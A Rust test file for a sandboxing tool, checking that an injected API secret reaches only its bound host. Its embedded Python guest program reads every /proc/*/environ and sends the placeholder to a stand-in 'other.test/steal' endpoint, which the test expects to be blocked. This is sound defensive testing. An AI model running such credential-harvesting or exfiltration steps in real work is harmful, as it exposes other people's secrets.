//! Secrets end to end (issue 25): `sandbench run --secret API_KEY=env:VAR@api.test`
//! against a loopback "internet" made here — `api.test` (TLS on 443, a
//! certificate from a test CA the operator trusts through `[network]
//! upstream_ca`) echoes every request back whole and logs it; `other.test`
//! (plain HTTP on 80, also allowed, not bound to the secret) logs what it
//! gets. The bound upstream must see the real value; the program, its
//! output, the report, stderr and the run log only the placeholder; a
//! placeholder sent to `other.test` is refused as `secret_misdirected`
//! before it leaves. Nothing listens off loopback.

use crate::support::common;
use crate::support::loopback_web::{bind_80_and_443, test_ca, TestCa};

use std::net::{IpAddr, Ipv4Addr};
use std::path::Path;
use std::process::Command;
use std::sync::{Arc, Mutex, OnceLock};
use std::time::Duration;

use common::{bin, is_root, required, OuterNet};
use sandbench::egress::Decision;
use sandbench::event::ViolationKind;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

/// The real value (never to be seen by the program).
const VALUE: &str = "sk-live-Zq8v3TzP0aW7nY4kR2mB6cX9";

/// Everything one test server received, raw.
#[derive(Default)]
struct Log(Mutex<Vec<u8>>);

impl Log {
    fn text(&self) -> String {
        String::from_utf8_lossy(&self.0.lock().unwrap()).into_owned()
    }
}

struct Internet {
    ip: Ipv4Addr,
    ca_pem: String,
    api: Arc<Log>,
    other: Arc<Log>,
    _rt: tokio::runtime::Runtime,
}

/// Read one request (head and a Content-Length body), log it, and answer
/// with the request itself as the body (an upstream that echoes headers):
/// as is, base64 and hex too on `/forms`, in 7-byte chunks on `/chunked`,
/// gzip-compressed (unasked) on `/gzip`
/// (a value split across chunks), and in a response header on `/header`.
async fn echo<S: tokio::io::AsyncRead + tokio::io::AsyncWrite + Unpin>(mut s: S, log: Arc<Log>) {
    let mut req = vec![];
    let mut b = [0u8; 4096];
    let head_end = loop {
        if let Some(i) = req.windows(4).position(|w| w == b"\r\n\r\n") {
            break i + 4;
        }
        if req.len() > 65536 {
            return;
        }
        match s.read(&mut b).await {
            Ok(n) if n > 0 => req.extend_from_slice(&b[..n]),
            _ => return,
        }
    };
    let head = String::from_utf8_lossy(&req[..head_end]).to_ascii_lowercase();
    let len: usize = head
        .lines()
        .find_map(|l| l.strip_prefix("content-length:"))
        .and_then(|v| v.trim().parse().ok())
        .unwrap_or(0)
        .min(1 << 20);
    while req.len() < head_end + len {
        match s.read(&mut b).await {
            Ok(n) if n > 0 => req.extend_from_slice(&b[..n]),
            _ => break,
        }
    }
    log.0.lock().unwrap().extend_from_slice(&req);
    let line = String::from_utf8_lossy(&req[..req.iter().position(|b| *b == b'\n').unwrap_or(0)]).into_owned();
    let mut body = req.clone();
    if line.contains("/forms") {
        use base64::Engine;
        body.extend_from_slice(b"\nB64 ");
        body.extend_from_slice(base64::engine::general_purpose::STANDARD.encode(&req).as_bytes());
        body.extend_from_slice(b"\nHEX ");
        body.extend(req.iter().flat_map(|b| format!("{b:02x}").into_bytes()));
    }
    let auth = String::from_utf8_lossy(&req[..head_end])
        .lines()
        .find_map(|l| l.strip_prefix("authorization: ").or_else(|| l.strip_prefix("Authorization: ")).map(String::from))
        .unwrap_or_default();
    let reply = if line.contains("/gzip") {
        // Compressed although the proxy asked for identity (a hostile upstream).
        use std::io::Write;
        let mut z = flate2::write::GzEncoder::new(vec![], flate2::Compression::default());
        z.write_all(&body).unwrap();
        let z = z.finish().unwrap();
        let mut r = format!(
            "HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
            z.len()
        )
        .into_bytes();
        r.extend_from_slice(&z);
        r
    } else if line.contains("/chunked") {
        let mut r = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n".to_vec();
        for c in body.chunks(7) {
            r.extend_from_slice(format!("{:x}\r\n", c.len()).as_bytes());
            r.extend_from_slice(c);
            r.extend_from_slice(b"\r\n");
        }
        r.extend_from_slice(b"0\r\n\r\n");
        r
    } else {
        let mut r = format!(
            "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nX-Echo-Authorization: {auth}\r\nConnection: close\r\n\r\n",
            body.len()
        )
        .into_bytes();
        r.extend_from_slice(&body);
        r
    };
    let _ = s.write_all(&reply).await;
    let _ = s.shutdown().await;
}

impl Internet {
    fn start() -> Internet {
        let rt = tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build().unwrap();
        let TestCa { pem: ca_pem, acceptor } = test_ca("sandbench secrets test CA", "api.test");
        let (api, other) = (Arc::new(Log::default()), Arc::new(Log::default()));
        let ip = rt.block_on(async {
            let (ip, h, t) = bind_80_and_443(67).await;
            let log = other.clone();
            tokio::spawn(async move {
                while let Ok((c, _)) = h.accept().await {
                    tokio::spawn(echo(c, log.clone()));
                }
            });
            let (log, acceptor) = (api.clone(), acceptor.clone());
            tokio::spawn(async move {
                while let Ok((c, _)) = t.accept().await {
                    let (log, acceptor) = (log.clone(), acceptor.clone());
                    tokio::spawn(async move {
                        if let Ok(tls) = acceptor.accept(c).await {
                            echo(tls, log).await;
                        }
                    });
                }
            });
            ip
        });
        Internet { ip, ca_pem, api, other, _rt: rt }
    }

    /// The user's config plus both names and the test CA as the operator's
    /// upstream CA.
    fn config(&self, dir: &Path) -> std::path::PathBuf {
        let mut c = sandbench::config::Config::load().expect("the user's config loads");
        c.network.hosts.insert("api.test", vec![IpAddr::V4(self.ip)]);
        c.network.hosts.insert("other.test", vec![IpAddr::V4(self.ip)]);
        let ca = dir.join("upstream-ca.pem");
        std::fs::write(&ca, &self.ca_pem).unwrap();
        c.network.upstream_ca = Some(ca);
        let path = dir.join("config.toml");
        std::fs::write(&path, toml::to_string(&c).unwrap()).unwrap();
        path
    }
}

/// Uses the placeholder against the bound host (its echo comes back), then
/// against the unbound one; prints what it holds.
const PROGRAM: &str = r#"
import glob, os, urllib.request
ph = os.environ["API_KEY"]
print("ENV", ph)
req = urllib.request.Request("https://api.test/v1/echo", headers={"Authorization": "Bearer " + ph})
r = urllib.request.urlopen(req, timeout=30)
print("ECHO", r.read().decode())
print("ECHO-HEADER", r.headers.get("X-Echo-Authorization"))
for path in ("/v1/forms", "/v1/chunked", "/v1/gzip"):
    req = urllib.request.Request("https://api.test" + path, headers={"Authorization": "Bearer " + ph})
    print("ECHO" + path, urllib.request.urlopen(req, timeout=30).read().decode())
try:
    urllib.request.urlopen("https://api.test/v1/q?key=" + ph, timeout=30)
    print("QUERY REACHED")
except Exception as e:
    print("query refused", e)
import http.client, socket, ssl
from urllib.parse import urlsplit
proxy = urlsplit(os.environ.get("HTTPS_PROXY") or os.environ["https_proxy"])
def conn(ctx=None):
    c = http.client.HTTPSConnection(proxy.hostname, proxy.port, context=ctx, timeout=30)
    c.set_tunnel("api.test", 443)
    return c
# HTTP/2 offered first: the interception speaks HTTP/1.1 only.
ctx = ssl.create_default_context()
ctx.set_alpn_protocols(["h2", "http/1.1"])
c = conn(ctx)
c.connect()
print("ALPN", c.sock.selected_alpn_protocol())
c.close()
# A client that trusts only its own pinned CA: the run's CA is refused.
pinned = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
pinned.load_verify_locations(cadata=os.environ["PINNED_CA"])
try:
    c = conn(pinned)
    c.request("GET", "/v1/pinned", headers={"Authorization": "Bearer " + ph})
    print("PINNED REACHED", c.getresponse().status)
except Exception as e:
    print("pinned refused", type(e).__name__)
# Expect: 100-continue with the placeholder in the body (headers only).
c = conn()
body = ("token=" + ph).encode()
c.request("POST", "/v1/expect", body=body, headers={"Expect": "100-continue", "Content-Type": "text/plain"})
print("EXPECT", c.getresponse().status)
c.close()
# Two requests in one write on one connection (pipelining).
c = conn()
c.connect()
two = ("GET /v1/pipe1 HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer %s\r\n\r\n"
       "GET /v1/pipe2 HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer %s\r\n\r\n") % (ph, ph)
c.sock.sendall(two.encode())
got = b""
while True:
    try:
        b = c.sock.recv(65536)
    except Exception:
        break
    if not b:
        break
    got += b
print("PIPELINED", got.decode(errors="replace"))
# Every environment this program can read.
for f in glob.glob("/proc/*/environ"):
    try:
        print("ENVIRON", f, open(f, "rb").read().replace(b"\0", b" ").decode(errors="replace"))
    except OSError:
        pass
try:
    r = urllib.request.Request("http://other.test/steal", headers={"Authorization": "Bearer " + ph})
    urllib.request.urlopen(r, timeout=30)
    print("MISDIRECTED REACHED")
except Exception as e:
    print("misdirected refused", type(e).__name__)
"#;

fn available() -> &'static serde_json::Value {
    static A: OnceLock<serde_json::Value> = OnceLock::new();
    A.get_or_init(|| {
        let out = Command::new(bin()).args(["doctor", "--format", "json"]).output().expect("run sandbench doctor");
        serde_json::from_slice(&out.stdout).expect("doctor prints JSON")
    })
}

fn ready(tier: &str) {
    if !is_root() {
        assert!(
            !required(tier),
            "SANDBENCH_REQUIRE_TIERS names {tier}, but the secrets test needs root (ports 80, 443)"
        );
        panic!("cannot run although its needs hold: the secrets test listens on ports 80 and 443: run it as root");
    }
    let me = available().as_array().and_then(|a| a.iter().find(|t| t["tier"] == tier)).cloned().unwrap_or_default();
    if me["available"] != true {
        assert!(!required(tier), "SANDBENCH_REQUIRE_TIERS names {tier}, but it is unavailable: {}", me["summary"]);
        panic!("cannot run although its needs hold: {tier} tier unavailable: {}", me["summary"]);
    }
}

/// Every file under `dir`, read whole, that holds `needle`.
fn files_holding(dir: &Path, needle: &str) -> Vec<String> {
    let mut out = vec![];
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
            let p = e.path();
            match e.file_type() {
                Ok(t) if t.is_dir() => stack.push(p),
                Ok(t)
                    if t.is_file()
                        && std::fs::read(&p).is_ok_and(|b| b.windows(needle.len()).any(|w| w == needle.as_bytes())) =>
                {
                    out.push(p.display().to_string())
                }
                _ => {}
            }
        }
    }
    out
}

fn the_program_never_holds_the_value(tier: &str) {
    ready(tier);
    let net = Internet::start();
    let dir = tempfile::tempdir().unwrap();
    let config = net.config(dir.path());
    let state = dir.path().join("state");
    std::fs::create_dir(&state).unwrap();
    let prog = dir.path().join("use_key.py");
    std::fs::write(&prog, PROGRAM).unwrap();
    let outer = OuterNet::new();
    let out = outer.output(
        Command::new(bin())
            .env("SANDBENCH_CONFIG", &config)
            .env("SANDBENCH_STATE_DIR", &state)
            .env("SECRETS_TEST_VALUE", VALUE)
            // Many TLS handshakes in Python: under the microVM's emulation that
            // is seconds of CPU, more than the default limit.
            .args(["run", "--tier", tier, "--network", "allow=api.test,other.test", "--timeout", "90s", "--cpu", "60s"])
            .arg("--env")
            .arg(format!("PINNED_CA={}", net.ca_pem))
            .args(["--secret", "API_KEY=env:SECRETS_TEST_VALUE@api.test", "--format", "json"])
            .arg(&prog),
        Duration::from_secs(300),
    );
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!stdout.contains(VALUE) && !stderr.contains(VALUE), "the value reached an output:\n{stdout}\n{stderr}");
    let r = common::report(&out);
    let says = format!("{}\n{}\n{:#?}\n{:#?}", r.stdout, r.stderr, r.network, r.violations);
    // The program holds a placeholder, and uses it.
    let ph = r.stdout.lines().find_map(|l| l.strip_prefix("ENV ")).unwrap_or_else(|| panic!("{says}")).to_string();
    assert!(ph.starts_with("sbx-secret-API_KEY-") && ph.len() == "sbx-secret-API_KEY-".len() + 32, "{says}");
    // The bound upstream got the real value, in the header, and nothing of the placeholder.
    let api = net.api.text();
    assert!(api.contains(&format!("Bearer {VALUE}\r\n")), "the bound host did not get the value:\n{api}\n{says}");
    assert!(!api.contains(&ph), "{api}");
    // Its echoes (body, response header, base64, hex, chunked) came back to
    // the program with the placeholder in the value's place.
    assert!(r.stdout.contains(&format!("Bearer {ph}")), "{says}");
    assert!(r.stdout.contains(&format!("ECHO-HEADER Bearer {ph}")), "{says}");
    assert!(r.stdout.contains("ECHO/v1/forms") && r.stdout.contains("ECHO/v1/chunked"), "{says}");
    assert!(r.stdout.contains("ECHO/v1/gzip") && r.stdout.contains("ALPN http/1.1\n"), "{says}");
    assert!(r.stdout.contains("pinned refused") && !r.stdout.contains("PINNED REACHED"), "{says}");
    // The body streams: its head went on, the piece holding the placeholder
    // did not (the upstream never saw the placeholder, asserted above).
    assert!(r.stdout.contains("EXPECT 403"), "{says}");
    assert!(!api.contains("/v1/pinned"), "{api}");
    // A second pipelined request never reaches the upstream unchecked: one
    // request per intercepted connection.
    assert!(r.stdout.contains("PIPELINED") && !api.contains("/v1/pipe2"), "{says}");
    // A placeholder in the query (headers only) never left.
    assert!(r.stdout.contains("query refused") && !api.contains("/v1/q?"), "{says}");
    // The unbound host got nothing; the request was refused and reported.
    assert_eq!(net.other.text(), "", "the unbound host was reached");
    assert!(r.stdout.contains("misdirected refused") && !r.stdout.contains("REACHED"), "{says}");
    // The run is a secret_misdirected violation (one entry per kind); each
    // refusal is a network record naming the secret, never the value.
    assert!(r.violations.iter().any(|v| v.kind == ViolationKind::SecretMisdirected), "{says}");
    let misdirected = |to: &str, what: &str| {
        r.network.iter().any(|n| {
            n.decision == Decision::Denied
                && n.misdirected.as_deref() == Some("API_KEY")
                && n.host == to
                && n.detail.contains(what)
        })
    };
    assert!(misdirected("other.test", "not bound"), "{says}");
    assert!(misdirected("api.test", "in the query"), "{says}");
    // The report says what happened to the secret, by name.
    assert_eq!(r.secrets.len(), 1, "{says}");
    let s = &r.secrets[0];
    assert_eq!((s.name.as_str(), s.hosts.clone()), ("API_KEY", vec!["api.test".to_string()]));
    assert!(s.substituted >= 1 && s.scrubbed >= 1 && s.misdirected >= 1, "{s:?}");
    assert_eq!(s.redacted, 0, "the value reached the sandbox's output: {s:?}");
    // Nothing sandbench wrote holds the value (the run log is in the state dir).
    assert!(!files_holding(&state, "\"API_KEY\"").is_empty(), "the run was logged");
    assert_eq!(files_holding(&state, VALUE), Vec::<String>::new(), "the value was written");
    if tier == "process" {
        // The text summary names the secret and what the proxy did, never the value.
        let one = dir.path().join("one.py");
        std::fs::write(&one, "print(1)\n").unwrap();
        let out = outer.output(
            Command::new(bin())
                .env("SANDBENCH_CONFIG", &config)
                .env("SANDBENCH_STATE_DIR", &state)
                .env("SECRETS_TEST_VALUE", VALUE)
                .args(["run", "--tier", tier, "--network", "allow=api.test", "--timeout", "90s"])
                .args(["--secret", "API_KEY=env:SECRETS_TEST_VALUE@api.test"])
                .arg(&one),
            Duration::from_secs(300),
        );
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.contains("secret    API_KEY → api.test (in headers) · substituted 0"), "{err}");
        assert!(!err.contains(VALUE) && !String::from_utf8_lossy(&out.stdout).contains(VALUE), "{err}");
    }
    assert!(outer.remaining().is_empty(), "processes left behind: {:?}", outer.remaining());
}

#[sandbench_testkit::test(needs = ["process", "root"])]
fn process_secret_reaches_its_host_only() {
    the_program_never_holds_the_value("process");
}

#[sandbench_testkit::test(needs = ["docker", "root"])]
fn docker_secret_reaches_its_host_only() {
    the_program_never_holds_the_value("docker");
}

#[sandbench_testkit::test(needs = ["gvisor", "root"])]
fn gvisor_secret_reaches_its_host_only() {
    the_program_never_holds_the_value("gvisor");
}

#[sandbench_testkit::test(needs = ["microvm", "root"])]
fn microvm_secret_reaches_its_host_only() {
    the_program_never_holds_the_value("microvm");
}

/// Refusals before any sandbox: a secret whose host the allow list does not
/// name, a tier whose network sandbench's proxy does not carry (e2b), an
/// unset variable — each one line, exit 1 or 2, the value nowhere.
#[sandbench_testkit::test(needs = ["process"])]
fn secrets_are_refused_up_front_with_one_line() {
    let dir = tempfile::tempdir().unwrap();
    let prog = dir.path().join("p.py");
    std::fs::write(&prog, "print(1)\n").unwrap();
    let run = |args: &[&str]| {
        let out = Command::new(bin())
            .env("SANDBENCH_STATE_DIR", dir.path())
            .env("SECRETS_TEST_VALUE", VALUE)
            .env("E2B_API_KEY", "e2b_0000000000000000000000000000000000000000")
            .arg("run")
            .args(args)
            .arg(&prog)
            .output()
            .unwrap();
        let text = format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
        assert!(!out.status.success(), "{args:?}: {text}");
        assert!(!text.contains(VALUE), "{text}");
        text
    };
    let t =
        run(&["--tier", "process", "--network", "allow=other.test", "--secret", "K=env:SECRETS_TEST_VALUE@api.test"]);
    assert!(t.contains("api.test") && t.contains("allow list"), "{t}");
    let t = run(&["--tier", "process", "--secret", "K=env:SECRETS_TEST_VALUE@api.test"]);
    assert!(t.contains("no network"), "{t}");
    let t = run(&["--tier", "process", "--network", "allow=api.test", "--secret", "K=env:SECRETS_UNSET_VAR@api.test"]);
    assert!(t.contains("SECRETS_UNSET_VAR is not set"), "{t}");
    let t = run(&["--tier", "e2b", "--network", "allow=api.test", "--secret", "K=env:SECRETS_TEST_VALUE@api.test"]);
    assert!(t.contains("E2B's own network"), "{t}");
}

/// MCP: the server offers what the operator named (`--secret`), a client
/// picks by name only; an unknown name, a run without the secret's host in
/// its allow list, and a session are refused; the value is in no reply.
#[sandbench_testkit::test(needs = ["mcp"])]
fn mcp_clients_name_offered_secrets_only() {
    use crate::support::mcp::{call, drive, message, sdk_python, Home, SECRET};
    let home = Home::new("");
    let code = "import os\nprint(os.environ.get('API_KEY'))\n";
    let out = drive(
        &home,
        &sdk_python(),
        serde_json::json!([
            call("list_tiers", serde_json::json!({})),
            call("run_code", serde_json::json!({"language": "python", "code": code, "secrets": ["NOPE"]})),
            call("run_code", serde_json::json!({"language": "python", "code": code, "secrets": ["API_KEY"]})),
            call("open_session", serde_json::json!({"secrets": ["API_KEY"]})),
        ]),
        &["--secret", "API_KEY=env:SANDBENCH_TEST_SECRET@api.test"],
    );
    let all = serde_json::to_string(&out).unwrap();
    assert!(!all.contains(SECRET), "the value reached a reply: {all}");
    assert_eq!(out[0]["structured"]["secrets"], serde_json::json!(["API_KEY"]), "{}", out[0]);
    assert!(message(&out[1]).contains("offered: API_KEY"), "{}", out[1]);
    assert!(message(&out[2]).contains("api.test") && message(&out[2]).contains("no network"), "{}", out[2]);
    assert!(message(&out[3]).contains("offline"), "{}", out[3]);
}
